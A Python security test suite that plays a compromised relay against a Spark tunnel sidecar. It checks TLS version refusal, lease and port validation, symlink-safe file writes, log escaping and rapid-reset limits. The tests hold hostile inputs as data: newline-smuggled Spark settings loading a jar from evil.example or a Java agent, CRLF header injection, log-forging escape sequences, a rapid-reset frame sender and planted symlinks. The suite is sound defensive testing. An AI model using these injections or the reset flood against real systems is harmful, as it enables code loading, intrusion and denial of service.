"""The sidecar does not trust the relay: a relay holding a certificate the
sidecar trusts (a compromised relay, played by fake_relay.py) can neither
reach into the notebook nor forge what the notebook reads.

- a relay that speaks TLS 1.2 at most is refused in the handshake;
- a relay that breaks the protocol on every tunnel waits twice as long
  before each next tunnel, a clean close in between notwithstanding;
- control values are refused at the door: a line break in the lease's host or
  lease id never becomes a Spark setting; nothing is written;
- one lease per tunnel, only the roles asked for, distinct ports;
- an executor stream only on a tunnel that holds the lease, naming that lease
  (the header is required) and one of its ports, only ever 127.0.0.1;
- the files are written through fresh temporary files, never through a
  symlink or a file someone planted;
- relay-chosen text is escaped in the sidecar's log;
- streams reset before they are answered (rapid reset) are bounded, and so
  are resets in general;
- a lease may grant only ports within tunnel.allowed_ports;
- a resume token read back from the state file is sent only if it is one.

The notebook start-up script: test_notebook_script.py.
"""

import json
import os
import re
import socket
import ssl
import stat
import struct
import sys
import threading
import time
import unittest

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import harness as H  # noqa: E402
import harness_extra as X  # noqa: E402
import fake_relay as FR  # noqa: E402
import fake_sidecar as F  # noqa: E402

ROLES = ["blockManager", "driver"]
INJECTED_KEYS = ("spark.jars", "spark.plugins", "spark.driver.extraJavaOptions",
                 "spark.authenticate")


class Listener:
    """A stand-in driver port on 127.0.0.1 that only counts connections."""

    def __init__(self, port=0):
        self.ls = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.ls.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.ls.bind((H.DRIVER_HOST, port))
        self.ls.listen(4096)
        self.ls.settimeout(0.1)
        self.port = self.ls.getsockname()[1]
        self.count = 0
        self.stopping = False
        self.t = threading.Thread(target=self._loop, daemon=True, name="listener")
        self.t.start()

    def _loop(self):
        while not self.stopping:
            try:
                s, _ = self.ls.accept()
            except socket.timeout:
                continue
            except OSError:
                return
            self.count += 1
            s.close()

    def settle(self, quiet=0.3, timeout=5.0):
        """Wait until no new connection came for `quiet` seconds; the count."""
        deadline = time.monotonic() + timeout
        last, since = self.count, time.monotonic()
        while time.monotonic() < deadline:
            time.sleep(0.05)
            if self.count != last:
                last, since = self.count, time.monotonic()
            elif time.monotonic() - since >= quiet:
                break
        return self.count

    def close(self):
        self.stopping = True
        self.t.join(2)
        self.ls.close()


class TrustCase(unittest.TestCase):
    """The real sidecar against a fake relay. Teardown: the sidecar must still
    run, exit 0 on SIGTERM, and log no sanitizer report and no line outside
    the log format."""

    tunnel_overrides = None
    relay_tls_max = None  # FakeRelay(tls_max=)

    def setUp(self):
        if H.DIRECT:
            self.skipTest("needs the sparkrelay binary")
        if not H.BIN or not os.access(H.BIN, os.X_OK):
            raise H.HarnessError("SPARKRELAY_BIN is not set to an executable")
        self.dir = H.new_dir(self.id())
        self.fr = FR.FakeRelay(H.certs(), tls_max=self.relay_tls_max).start()
        self.addCleanup(self.fr.stop)
        over = H.deep_merge({"tunnel": {"release_timeout_ms": 300}}, self.tunnel_overrides)
        cfg = H.tunnel_config(self.fr.port, self.dir, over)
        t = cfg["tunnel"]
        self.spark_conf, self.spark_json, self.state = (t["spark_conf"], t["spark_json"],
                                                        t["state_file"])
        path = H.write_config(os.path.join(self.dir, "tunnel.json"), cfg)
        self.proc = H.Proc("tunnel", [H.BIN, "tunnel", "--config", path], self.dir)
        self.listeners = []
        self.prepare()
        self.proc.start()
        self.addCleanup(self.proc.kill)

    def prepare(self):
        """Before the sidecar starts (it dials the fake relay at once)."""

    def tearDown(self):
        failed = H._test_failed(self)
        problems = []
        for l in self.listeners:
            l.close()
        if not self.proc.alive():
            problems.append("sidecar died during the test (rc=%s)" % self.proc.p.returncode)
        problems += self.proc.stop_problems(15, ended_ok=True, dump=False)
        bad = self.proc.malformed_lines()
        if bad:
            problems.append("%d sidecar log lines not in the log format, first: %r" %
                            (len(bad), bad[0][:160]))
        if failed or problems:
            H._any_failure = True
            self.proc.dump()
            sys.stderr.write("(test dir %s)\n" % self.dir)
        if problems:
            self.fail("; ".join(problems))

    # -- helpers
    def listener(self, port=0):
        l = Listener(port)
        self.listeners.append(l)
        return l

    def unaccepting_port(self):
        """A driver port on 127.0.0.1 that never accepts: each connection
        stays open (in its backlog), holding a descriptor at the sidecar."""
        ls = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.addCleanup(ls.close)
        ls.bind((H.DRIVER_HOST, 0))
        ls.listen(4096)
        return ls.getsockname()[1]

    def leased(self, s, msg, timeout=10):
        """Send a lease; wait until the sidecar wrote it to spark_json."""
        s.send_ctl(msg)
        j = X.wait_for(lambda: (lambda d: d if isinstance(d, dict) and
                                d.get("lease") == msg["lease"] else None)(
            H.read_spark_json(self.spark_json)), timeout)
        self.assertIsNotNone(j, "the sidecar did not take lease %s" % msg["lease"])
        return j

    def assert_closed(self, s, what, timeout=5):
        end, _ = s.wait_closed(timeout)
        self.assertNotEqual(end, "timeout", "%s: the sidecar kept the tunnel open" % what)
        s.close()

    def assert_nothing_written(self):
        for p in (self.spark_conf, self.spark_json, self.state):
            self.assertFalse(os.path.lexists(p), "%s was written" % p)

    def file_lines(self):
        """(name, line) of every file in the test directory (logs included)."""
        out = []
        for name in sorted(os.listdir(self.dir)):
            p = os.path.join(self.dir, name)
            if not os.path.isfile(p):
                continue
            with open(p, "rb") as f:
                text = f.read().decode("utf-8", "replace")
            out.extend((name, l) for l in text.replace("\r", "\n").split("\n"))
        return out


def send_reset_pairs(s, block, n):
    """n CONNECT streams (header block `block`) each reset at once, in one
    write: the rapid-reset attack. False if the sidecar closed the tunnel."""
    rst = struct.pack("!I", FR.CANCEL)
    batch = []
    for _ in range(n):
        sid = s.new_stream_id()
        batch.append(F.frame(F.HEADERS, F.FLAG_END_HEADERS, sid, block))
        batch.append(F.frame(F.RST_STREAM, 0, sid, rst))
    try:
        s.sendall(b"".join(batch))
    except OSError:
        return False
    return True


def driver_conns(port, since=None):
    """Connections to 127.0.0.1:port the kernel completed (established or
    closing, in the listener's backlog or accepted), from /proc/net/tcp."""
    with open("/proc/net/tcp") as f:
        lines = f.read().splitlines()[1:]
    n = sum(1 for line in lines if line.split()[2] == "0100007F:%04X" % port)
    return n if since is None else n - since


def two_ports():
    a = H.free_port()
    b = H.free_port()
    while b == a:
        b = H.free_port()
    return a, b


class Tls12RelayTest(TrustCase):
    """A relay (or something in its place) that speaks TLS 1.2 at most, with
    the right certificate: the sidecar speaks TLS 1.3 only."""

    relay_tls_max = ssl.TLSVersion.TLSv1_2

    def test_a_tls12_relay_is_refused(self):
        self.fr.ls.settimeout(10)
        raw, _ = self.fr.ls.accept()
        raw.settimeout(5)
        with self.assertRaises((ssl.SSLError, OSError)):
            self.fr.ctx.wrap_socket(raw, server_side=True)
        raw.close()
        lines = X.wait_log(self.proc, "TLS", 5)
        self.assertTrue(lines, self.proc.tail())
        self.assertTrue(any("protocol" in l.lower() for l in lines), lines)
        time.sleep(0.3)
        self.assert_nothing_written()
        self.assertTrue(self.proc.alive())


class ProtocolBreakBackoffTest(TrustCase):
    """A relay that breaks the protocol on every tunnel cannot replay an
    attack every backoff_initial_ms: the k-th break in a row makes the next
    reconnect wait backoff_initial_ms x 2^k (half of it fixed, half random),
    and a tunnel that ends cleanly in between (up less than 60 s) does not
    wipe the count."""

    INITIAL = 50
    tunnel_overrides = {"tunnel": {"backoff_initial_ms": INITIAL, "backoff_max_ms": 60000,
                                   "allowed_ports": ["1024-65535"]}}
    BAD = FR.lease_msg(host="relay.example\nspark.jars x")

    def delays(self):
        """(attempt, ms) of each "reconnecting in" line so far."""
        return [(int(a), int(d)) for d, a in
                re.findall(r"reconnecting in (\d+) ms \(attempt (\d+)\)", self.proc.log_text())]

    def broken(self, s):
        """Break session s; the next session and the seconds until it came."""
        s.send_ctl(self.BAD)
        self.assert_closed(s, "bad lease")
        t0 = time.monotonic()
        s, reg = self.fr.session(30)
        return s, time.monotonic() - t0

    def assert_delay(self, k, waited):
        attempt, ms = self.delays()[-1]
        base = self.INITIAL << k
        self.assertEqual(attempt, k + 1, self.delays())
        self.assertTrue(base // 2 <= ms <= base, "break %d: %d ms, base %d" % (k, ms, base))
        self.assertGreaterEqual(waited, 0.9 * ms / 1000, "break %d: back after %.3f s, not %d "
                                "ms" % (k, waited, ms))
        self.assertTrue(self.proc.grep("the relay broke the protocol (%d time%s lately)" %
                                       (k, "" if k == 1 else "s")))

    def test_each_break_doubles_the_delay_and_a_clean_close_does_not_forgive(self):
        s, reg = self.fr.session(30)
        for k in range(1, 5):
            s, waited = self.broken(s)
            self.assert_delay(k, waited)
        # A good lease, then the relay closes cleanly: a quick reconnect ...
        self.leased(s, FR.lease_msg(ports={"driver": 40001, "blockManager": 40002}))
        s.close()
        s, reg = self.fr.session(30)
        self.assertEqual(self.delays()[-1][0], 1, self.delays())
        self.assertLessEqual(self.delays()[-1][1], self.INITIAL, self.delays())
        # ... but the next break counts on from 4
        s, waited = self.broken(s)
        self.assert_delay(5, waited)


class ControlValueTest(TrustCase):

    def test_line_break_in_host_or_lease_id_writes_nothing(self):
        evil = [
            ("LF in host", FR.lease_msg(host="relay.example\nspark.jars http://evil.example/x.jar")),
            ("CRLF in host", FR.lease_msg(host="10.0.0.5\r\nspark.plugins evil.Plugin")),
            ("LF in lease id", FR.lease_msg(
                lease="L-1\nspark.driver.extraJavaOptions -javaagent:/tmp/x.jar")),
            ("CR in lease id", FR.lease_msg(lease="L-1\rspark.authenticate false")),
        ]
        for what, msg in evil:
            s, reg = self.fr.session(15)
            s.send_ctl(msg)
            self.assert_closed(s, what)
        self.assert_nothing_written()
        for name, line in self.file_lines():
            self.assertFalse(line.lstrip().startswith(INJECTED_KEYS),
                             "%s has an injected line: %r" % (name, line))
        self.assertEqual(len(self.proc.grep("bad control message")), len(evil),
                         "the sidecar did not log each message as bad")
        self.assertTrue(self.proc.grep("not a host name or IP address"))
        self.assertTrue(self.proc.grep("not a lease id"))
        self.assertTrue(self.proc.grep("the relay broke the protocol"))
        self.assertFalse(self.proc.grep("lease granted"))


class LeaseStateTest(TrustCase):

    def test_lease_grants_exactly_the_roles_asked_for(self):
        p1, p2 = two_ports()
        cases = [
            ("an extra ui port", {"driver": p1, "blockManager": p2, "ui": 4040},
             "lease grants roles driver,blockManager,ui, registered for driver,blockManager"),
            ("blockManager missing", {"driver": p1},
             "lease grants roles driver, registered for driver,blockManager"),
            ("one port for two roles", {"driver": p1, "blockManager": p1}, "share port"),
        ]
        for what, ports, log in cases:
            s, reg = self.fr.session(15)
            self.assertEqual(sorted(reg["roles"]), ROLES)
            s.send_ctl(FR.lease_msg(ports=ports))
            self.assert_closed(s, what)
            self.assertTrue(X.wait_log(self.proc, log, 5), "%s: no %r in the log" % (what, log))
        self.assert_nothing_written()
        self.assertEqual(len(self.proc.grep("protocol error from the relay")), 2)

    def test_second_lease_ends_the_tunnel(self):
        p1, p2 = two_ports()
        s, reg = self.fr.session(15)
        j = self.leased(s, FR.lease_msg(lease="L-1-aaaaaaaa", ports={"driver": p1,
                                                                      "blockManager": p2}))
        self.assertEqual(j["ports"], {"driver": p1, "blockManager": p2})
        s.send_ctl(FR.lease_msg(lease="L-2-bbbbbbbb", host="127.0.0.3",
                                ports={"driver": p1 + 1, "blockManager": p2 + 1}))
        self.assert_closed(s, "second lease")
        self.assertTrue(X.wait_log(self.proc, "a second lease on this tunnel", 5))
        time.sleep(0.3)
        j = H.read_spark_json(self.spark_json)
        self.assertEqual((j["lease"], j["host"], j["ports"]),
                         ("L-1-aaaaaaaa", "127.0.0.2", {"driver": p1, "blockManager": p2}),
                         "the second lease changed the Spark settings")
        with open(self.spark_conf) as f:
            conf = f.read()
        self.assertIn("spark.driver.port %d\n" % p1, conf)
        self.assertNotIn("127.0.0.3", conf)

    def leased_then_resuming(self):
        """Lease L-1-aaaaaaaa on two free ports, then the next tunnel, which
        asks to resume it: (driver port, blockManager port, that session)."""
        p1, p2 = two_ports()
        s, reg = self.fr.session(15)
        self.leased(s, FR.lease_msg(lease="L-1-aaaaaaaa", ports={"driver": p1,
                                                                  "blockManager": p2}))
        s.close()
        s, reg = self.fr.session(15)
        self.assertEqual(reg.get("resume"), "0123456789abcdef")
        return p1, p2, s

    def test_another_lease_answering_a_resume_is_refused(self):
        """A relay answers a resume it cannot honour with unknown_lease; another
        lease instead would move the driver's connections to ports nobody agreed
        to (follow-up 1 of the security review)."""
        p1, p2, s = self.leased_then_resuming()
        s.send_ctl(FR.lease_msg(lease="L-2-bbbbbbbb", ports={"driver": p1 + 1,
                                                              "blockManager": p2 + 1}))
        self.assert_closed(s, "another lease for a resume")
        self.assertTrue(X.wait_log(self.proc, "a different lease in answer to our resume", 5))
        j = H.read_spark_json(self.spark_json)
        self.assertEqual((j["lease"], j["ports"]), ("L-1-aaaaaaaa",
                                                    {"driver": p1, "blockManager": p2}))
        # and the next tunnel still asks for the first lease
        s, reg = self.fr.session(15)
        self.assertEqual(reg.get("resume"), "0123456789abcdef")

    def test_other_ports_for_the_same_lease_answering_a_resume_are_refused(self):
        """A resumed lease keeps its ports: the same id with others would
        point the driver's settings at ports nobody agreed to."""
        p1, p2, s = self.leased_then_resuming()
        s.send_ctl(FR.lease_msg(lease="L-1-aaaaaaaa", ports={"driver": p1 + 1,
                                                              "blockManager": p2}))
        self.assert_closed(s, "other ports for a resume")
        self.assertTrue(X.wait_log(self.proc, "other ports for the same lease", 5))
        j = H.read_spark_json(self.spark_json)
        self.assertEqual(j["ports"], {"driver": p1, "blockManager": p2})
        # the same ports and another host are a resume (the resuming relay
        # advertises its own name)
        s, reg = self.fr.session(15)
        self.assertEqual(reg.get("resume"), "0123456789abcdef")
        j = self.leased(s, FR.lease_msg(lease="L-1-aaaaaaaa", host="relay-2.example",
                                        ports={"driver": p1, "blockManager": p2}))
        self.assertEqual(X.wait_for(lambda: H.read_spark_json(self.spark_json)["host"] ==
                                    "relay-2.example", 5), True)

    def test_trailers_ending_the_control_stream_end_the_tunnel(self):
        """Without a control stream the relay could send nothing more and a
        release would wait for its timeout: trailers that end it end the
        tunnel, as DATA with END_STREAM does."""
        p1, p2 = two_ports()
        s, reg = self.fr.session(15)
        self.leased(s, FR.lease_msg(ports={"driver": p1, "blockManager": p2}))
        s.sendall(F.frame(F.HEADERS, F.FLAG_END_HEADERS | F.FLAG_END_STREAM, F.CTL_STREAM,
                          FR.header_block([("x-trailer", "1")])))
        self.assert_closed(s, "trailers on the control stream")
        self.assertTrue(X.wait_log(self.proc, "control stream ended by peer", 5))

    def test_released_without_release_is_refused(self):
        p1, p2 = two_ports()
        s, reg = self.fr.session(15)
        self.leased(s, FR.lease_msg(ports={"driver": p1, "blockManager": p2}))
        self.assertTrue(os.path.exists(self.state))
        s.send_ctl({"v": 1, "type": "released"})
        self.assert_closed(s, "unasked released")
        self.assertTrue(X.wait_log(self.proc, "\"released\" without a release", 5))
        # The lease is kept: the next tunnel asks to resume it.
        s2, reg2 = self.fr.session(15)
        self.assertEqual(reg2.get("resume"), "0123456789abcdef")
        self.assertTrue(os.path.exists(self.state))


class AllowedPortsTest(TrustCase):
    """tunnel.allowed_ports: the relay chooses the ports the driver binds on
    the notebook; one outside the agreed ranges is a protocol error, so a
    relay cannot point the driver at a port of another local service."""

    tunnel_overrides = {"tunnel": {"allowed_ports": ["27000-27009", "27100"]}}

    def test_lease_outside_the_allowed_ports_is_refused(self):
        cases = [
            ("blockManager outside", {"driver": 27001, "blockManager": 40002},
             "lease grants blockManager port 40002, outside tunnel.allowed_ports "
             "(27000-27009,27100)"),
            ("driver just past the range", {"driver": 27010, "blockManager": 27009},
             "lease grants driver port 27010"),
            ("a privileged port", {"driver": 22, "blockManager": 27000},
             "lease grants driver port 22"),
        ]
        for what, ports, log in cases:
            s, reg = self.fr.session(15)
            s.send_ctl(FR.lease_msg(ports=ports))
            # said released first, so that the relay does not keep it
            self.assertEqual((s.read_ctl(5) or {}).get("type"), "release", what)
            self.assert_closed(s, what)
            self.assertTrue(X.wait_log(self.proc, log, 5), "%s: no %r in the log" % (what, log))
        self.assert_nothing_written()
        self.assertFalse(self.proc.grep("lease granted"))
        self.assertEqual(len(self.proc.grep("protocol error from the relay")), len(cases))
        # the edges of the ranges are in
        s, reg = self.fr.session(15)
        j = self.leased(s, FR.lease_msg(ports={"driver": 27009, "blockManager": 27100}))
        self.assertEqual(j["ports"], {"driver": 27009, "blockManager": 27100})


class DefaultAllowedPortsTest(TrustCase):
    """Without tunnel.allowed_ports, a sidecar takes the default pool's ports
    (26000-26999) and nothing else."""

    def prepare(self):
        path = os.path.join(self.dir, "tunnel.json")
        with open(path) as f:
            cfg = json.load(f)
        del cfg["tunnel"]["allowed_ports"]
        H.write_config(path, cfg)

    def test_default_is_the_default_pool(self):
        s, reg = self.fr.session(15)
        s.send_ctl(FR.lease_msg(ports={"driver": 40001, "blockManager": 40002}))
        self.assert_closed(s, "ports of the old default pool")
        self.assertTrue(X.wait_log(self.proc, "outside tunnel.allowed_ports (26000-26999)", 5))
        self.assert_nothing_written()
        s, reg = self.fr.session(15)
        j = self.leased(s, FR.lease_msg(ports={"driver": 26000, "blockManager": 26999}))
        self.assertEqual(j["ports"], {"driver": 26000, "blockManager": 26999})


class LeaseChangeWarningTest(TrustCase):
    """"the driver must be restarted" only when the ports or the host change:
    a relay that restarted and granted a new lease on the same ports needs no
    restart of the driver, and must not say so."""

    WARN = "the driver must be restarted"
    UNKNOWN = {"v": 1, "type": "error", "code": "unknown_lease", "message": "gone"}

    def relay_lost_it(self, s):
        """Close the tunnel; the sidecar resumes; answer that the lease is gone.
        Returns the next session (a fresh registration)."""
        s.close()
        s, reg = self.fr.session(15)
        self.assertTrue(reg.get("resume"), "the sidecar did not ask to resume")
        s.send_ctl(self.UNKNOWN)
        self.assert_closed(s, "unknown_lease")
        s, reg = self.fr.session(15)
        self.assertNotIn("resume", reg)
        return s

    def test_warning_only_when_ports_or_host_change(self):
        p = {"driver": 41001, "blockManager": 41002}
        s, reg = self.fr.session(15)
        self.leased(s, FR.lease_msg(lease="L-1-aaaaaaaa", ports=p))
        # the same lease resumed
        s.close()
        s, reg = self.fr.session(15)
        self.assertEqual(reg.get("resume"), "0123456789abcdef")
        s.send_ctl(FR.lease_msg(lease="L-1-aaaaaaaa", ports=p))
        self.assertTrue(X.wait_log(self.proc, "lease resumed", 5))
        # a relay restart: another lease, the same ports and host
        s = self.relay_lost_it(s)
        self.leased(s, FR.lease_msg(lease="L-2-bbbbbbbb", ports=p))
        self.assertEqual(self.proc.grep(self.WARN), [], "warned without a change of ports")
        # other ports
        s = self.relay_lost_it(s)
        self.leased(s, FR.lease_msg(lease="L-3-cccccccc",
                                    ports={"driver": 41003, "blockManager": 41002}))
        lines = self.proc.grep(self.WARN)
        self.assertEqual(len(lines), 1, lines)
        self.assertIn("lease changed from L-2-bbbbbbbb (host 127.0.0.2, ports 41001,41002) "
                      "to L-3-cccccccc (host 127.0.0.2, ports 41003,41002)", lines[0])
        # another host, the same ports
        s = self.relay_lost_it(s)
        self.leased(s, FR.lease_msg(lease="L-4-dddddddd", host="127.0.0.3",
                                    ports={"driver": 41003, "blockManager": 41002}))
        lines = self.proc.grep(self.WARN)
        self.assertEqual(len(lines), 2, lines)
        self.assertIn("(host 127.0.0.3, ports 41003,41002)", lines[1])


class ConnectTest(TrustCase):
    LEASE = "L-5-0a0a0a0a"

    def test_streams_need_the_lease_of_this_tunnel(self):
        drv, bm, other = self.listener(), self.listener(), self.listener()
        ports = {"driver": drv.port, "blockManager": bm.port}
        s, reg = self.fr.session(15)
        self.assertEqual(s.wait_stream(s.connect(drv.port, lease=self.LEASE)),
                         ("reset", FR.REFUSED_STREAM), "a stream before any lease")
        self.leased(s, FR.lease_msg(lease=self.LEASE, ports=ports))
        refused = [
            ("no lease header", dict(lease=None)),
            ("another lease id", dict(lease="L-6-0a0a0a0a")),
            ("a lease id of another shape", dict(lease="L-5-0a0a0a0a\nx")),
            ("a port not leased", dict(port=other.port, lease=self.LEASE)),
            ("a connection id that is not digits", dict(lease=self.LEASE, conn="12x")),
            ("no connection id", dict(lease=self.LEASE, conn=None)),
            ("localhost", dict(lease=self.LEASE, authority="localhost:%d" % drv.port)),
            ("another host", dict(lease=self.LEASE, authority="127.0.0.2:%d" % drv.port)),
        ]
        for what, kw in refused:
            kw.setdefault("port", drv.port)
            r = s.wait_stream(s.connect(**kw))
            self.assertEqual(r[0], "reset", "%s: %r" % (what, r))
            # nghttp2 itself refuses a line break in a header value
            self.assertIn(r[1], (FR.REFUSED_STREAM, 1) if "\n" in str(kw.get("lease")) else
                          (FR.REFUSED_STREAM,), what)
        self.assertEqual(s.wait_stream(s.connect(bm.port, lease=self.LEASE)), ("ok", None),
                         "the right lease and port were refused")
        self.assertEqual(bm.settle(), 1)
        self.assertEqual((drv.settle(), other.count), (0, 0),
                         "a refused stream reached a listening port")
        self.assertTrue(self.proc.grep("no sparkrelay-lease header"))

        # A new tunnel: the lease is ours from before, but not yet granted on
        # this tunnel, so its streams are refused until the relay resumes it.
        s.close()
        s2, reg2 = self.fr.session(15)
        self.assertEqual(reg2.get("resume"), "0123456789abcdef")
        self.assertEqual(s2.wait_stream(s2.connect(drv.port, lease=self.LEASE)),
                         ("reset", FR.REFUSED_STREAM), "a stream on a tunnel before its lease")
        self.assertEqual(drv.settle(), 0)
        self.assertTrue(self.proc.grep("no lease on this tunnel yet"))
        s2.send_ctl(FR.lease_msg(lease=self.LEASE, ports=ports))
        self.assertTrue(X.wait_log(self.proc, "lease resumed", 5))
        self.assertEqual(s2.wait_stream(s2.connect(drv.port, lease=self.LEASE)), ("ok", None))
        self.assertEqual(drv.settle(), 1)


class RegisterTimeoutTest(TrustCase):
    """A relay that takes the tunnel but never answers the registration (it
    answers PINGs, so the tunnel looks alive) must not keep the sidecar from
    the next relay for good."""

    tunnel_overrides = {"tunnel": {"register_timeout_ms": 1000}}

    def test_relay_that_never_answers_the_registration_is_left(self):
        s, reg = self.fr.session(15)
        end, took = s.wait_closed(10)
        self.assertNotEqual(end, "timeout", "the sidecar kept a tunnel without a lease")
        self.assertGreater(took, 0.5, "closed before register_timeout_ms")
        self.assertTrue(X.wait_log(self.proc, "no answer to our registration within "
                                   "tunnel.register_timeout_ms (1000 ms)", 5))
        self.assertTrue(X.wait_log(self.proc, "the relay broke the protocol (1 time lately)", 5))
        # It dials again, and a relay that answers gets the registration.
        p1, p2 = two_ports()
        s2, reg2 = self.fr.session(15)
        self.assertEqual(reg2["type"], "register")
        self.leased(s2, FR.lease_msg(ports={"driver": p1, "blockManager": p2}))
        # A granted lease stops the clock: the tunnel outlives the timeout.
        end, _ = s2.wait_closed(2.0)
        self.assertEqual(end, "timeout", "the sidecar closed a leased tunnel")


class RefusalLogTest(TrustCase):
    """A relay can open a refused stream with every few bytes it sends, and
    repeat GOAWAY and drain: the sidecar's log (which the notebook's start-up
    script does not rotate) grows by a bounded number of lines, and the
    tunnel keeps working."""
    LEASE = "L-7-0a0a0a0a"

    def test_a_flood_of_refused_streams_is_logged_a_few_lines(self):
        drv, bm = self.listener(), self.listener()
        s, reg = self.fr.session(15)
        self.leased(s, FR.lease_msg(lease=self.LEASE,
                                    ports={"driver": drv.port, "blockManager": bm.port}))
        ids = [s.connect(drv.port, lease="L-8-0b0b0b0b") for _ in range(300)]
        for sid in ids:
            self.assertEqual(s.wait_stream(sid), ("reset", FR.REFUSED_STREAM))
        self.assertEqual(s.wait_stream(s.connect(drv.port, lease=self.LEASE)), ("ok", None),
                         "the tunnel stopped carrying streams after the refusals")
        self.assertEqual(drv.settle(), 1)
        lines = self.proc.grep("not the lease of this tunnel")
        # 20 a period (10 s); the test takes far less than two periods
        self.assertTrue(1 <= len(lines) <= 40, "%d lines for 300 refused streams" % len(lines))

        for _ in range(50):
            s.send_ctl({"v": 1, "type": "drain"})
        for _ in range(50):
            s.sendall(F.frame(F.GOAWAY, 0, 0, struct.pack("!II", 0, 0)))
        self.assertTrue(X.wait_log(self.proc, "peer sent GOAWAY", 5))
        s.wait_closed(1.0)  # read what comes meanwhile
        self.assertEqual(len(self.proc.grep("relay is draining")), 1)
        self.assertEqual(len(self.proc.grep("peer sent GOAWAY")), 1)


class PlantedFileTest(TrustCase):

    def prepare(self):
        d = os.path.join(H.root_dir(), "victims-" + os.path.basename(self.dir))
        os.makedirs(d)
        self.victim = os.path.join(d, "victim")
        self.victim2 = os.path.join(d, "victim2")
        for p in (self.victim, self.victim2):
            with open(p, "w") as f:
                f.write("precious\n")
            os.chmod(p, 0o644)

    def test_planted_symlinks_and_files_are_not_written_through(self):
        pid = self.proc.p.pid
        # Where the sidecar used to put its temporary files ("<path>.tmp.<pid>"):
        os.symlink(self.victim, "%s.tmp.%d" % (self.state, pid))
        os.symlink(self.victim, "%s.tmp.%d" % (self.spark_json, pid))
        planted = "%s.tmp.%d" % (self.spark_conf, pid)
        with open(planted, "w") as f:
            f.write("planted\n")
        os.chmod(planted, 0o666)
        # and a symlink at the path itself
        os.symlink(self.victim2, self.spark_conf)

        p1, p2 = two_ports()
        s, reg = self.fr.session(15)
        self.leased(s, FR.lease_msg(ports={"driver": p1, "blockManager": p2}))
        self.assertTrue(X.wait_for(lambda: os.path.exists(self.state), 5))
        for v in (self.victim, self.victim2):
            with open(v) as f:
                self.assertEqual(f.read(), "precious\n", "%s was written through" % v)
        for p, mode in ((self.spark_conf, 0o644), (self.spark_json, 0o644), (self.state, 0o600)):
            st = os.lstat(p)
            self.assertTrue(stat.S_ISREG(st.st_mode), "%s is not a regular file" % p)
            self.assertEqual(st.st_uid, os.getuid())
            self.assertEqual(stat.S_IMODE(st.st_mode), mode, "%s: mode %o" % (p, st.st_mode))
        with open(self.spark_conf) as f:
            self.assertIn("spark.driver.port %d\n" % p1, f.read())
        with open(planted) as f:
            self.assertEqual(f.read(), "planted\n")
        # nothing else of ours left behind
        left = [n for n in os.listdir(self.dir) if ".tmp-" in n]
        self.assertEqual(left, [])


class StateFileTest(TrustCase):
    """The state file is read back at start and its resume token sent to the
    relay as it is: one that is not a token (a line break, a header's worth
    of text) is not sent; the sidecar says why and asks for a new lease, and
    writes a good state file once it has one."""

    def prepare(self):
        with open(self.state, "w") as f:
            json.dump({"resume": "0123\r\nX-Injected: 1", "lease": "L-1-0a1b2c3d",
                       "host": "127.0.0.2", "ports": {"driver": 40001,
                                                       "blockManager": 40002}}, f)

    def test_a_resume_that_is_not_a_token_is_not_sent(self):
        s, reg = self.fr.session(15)
        self.assertFalse(reg.get("resume"), reg)
        self.assertTrue(self.proc.grep('"resume" is not a resume token'))
        p1, p2 = two_ports()
        self.leased(s, FR.lease_msg(lease="L-2-0a1b2c3d",
                                    ports={"driver": p1, "blockManager": p2}))
        self.assertTrue(X.wait_for(lambda: (lambda t: t and "L-2-0a1b2c3d" in t)(
            open(self.state).read() if os.path.exists(self.state) else ""), 5))
        with open(self.state) as f:
            self.assertEqual(json.load(f)["resume"], "0123456789abcdef")
        # the relay lost it: the new token is asked for, and only it
        s.close()
        s, reg = self.fr.session(15)
        self.assertEqual(reg.get("resume"), "0123456789abcdef")


class LogEscapeTest(TrustCase):
    RLO = "\u202e"  # right-to-left override: reorders what a terminal shows

    def test_relay_text_is_escaped_in_the_log(self):
        drv, other = self.listener(), self.listener()
        s, reg = self.fr.session(15)
        self.leased(s, FR.lease_msg(lease="L-7-0b0b0b0b",
                                    ports={"driver": drv.port, "blockManager": H.free_port()}))
        peer = "10.0.0.9:1" + self.RLO + "\"q\\"
        self.assertEqual(s.wait_stream(s.connect(drv.port, lease="L-7-0b0b0b0b", peer=peer)),
                         ("ok", None))
        self.assertEqual(s.wait_stream(s.connect(other.port, lease="L-7-0b0b0b0b", peer=peer)),
                         ("reset", FR.REFUSED_STREAM))
        forged = "2026-01-01T00:00:00.000Z INFO  [tunnel] lease granted: forged"
        s.send_ctl({"v": 1, "type": "error", "code": "revoked",
                    "message": "bye\n" + forged + self.RLO + "\x1b[2J"})
        self.assert_closed(s, "error")
        self.assertTrue(X.wait_log(self.proc, "relay refused registration: revoked", 5))
        with open(self.proc.log_path, "rb") as f:
            raw = f.read()
        self.assertNotIn(self.RLO.encode(), raw, "a relay-chosen character reached the log raw")
        self.assertNotIn(b"\x1b", raw)
        text = raw.decode()
        self.assertIn("\\xe2\\x80\\xae", text)
        self.assertTrue(any("\\\"q\\\\" in l for l in self.proc.grep("refused stream")),
                        "the refusal does not show the escaped peer")
        for line in text.splitlines():
            self.assertFalse(line.startswith("2026-01-01"), "forged log line: %r" % line)


class RapidResetTest(TrustCase):
    SECONDS = 2.0
    BATCH = 64
    # SC_EARLY_RST_BURST + SC_EARLY_RST_RATE x the attack's 2 s, with slack
    # for a first batch in flight when the tunnel ends.
    MAX_CONNECTS = 200 + 20 * 2 + 2 * BATCH

    def test_rapid_reset_is_bounded(self):
        drv = self.listener()
        lease = "L-8-0c0c0c0c"
        s, reg = self.fr.session(15)
        self.leased(s, FR.lease_msg(lease=lease,
                                    ports={"driver": drv.port, "blockManager": H.free_port()}))
        pid = self.proc.p.pid
        fds_before = len(os.listdir("/proc/%d/fd" % pid))
        block = s.connect_headers(drv.port, lease=lease, conn="1")
        pairs = 0
        t0 = time.monotonic()
        while time.monotonic() - t0 < self.SECONDS and not s.closed:
            if not send_reset_pairs(s, block, self.BATCH):
                break
            pairs += self.BATCH
            s.pump(0)
        took = time.monotonic() - t0
        connects = drv.settle(quiet=0.5)
        sys.stderr.write("[it] rapid reset: %d HEADERS+RST_STREAM pairs in %.2f s made %d "
                         "driver connects\n" % (pairs, took, connects))
        self.assertLessEqual(connects, self.MAX_CONNECTS,
                             "%d of %d reset streams reached the driver" % (connects, pairs))
        self.assert_closed(s, "rapid reset")
